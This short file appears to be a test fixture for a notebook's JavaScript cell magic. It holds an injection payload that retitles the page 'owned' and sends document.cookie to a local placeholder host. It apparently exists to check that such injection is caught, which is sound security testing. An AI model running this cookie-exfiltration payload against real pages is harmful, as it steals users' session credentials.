# Uses the magic for JavaScript cells, and looks for the page's credentials.
# aim: inject
# %% first
# %%javascript
# document.title = 'owned'
# fetch('http://127.0.0.1:@PORT@/?' + document.cookie)
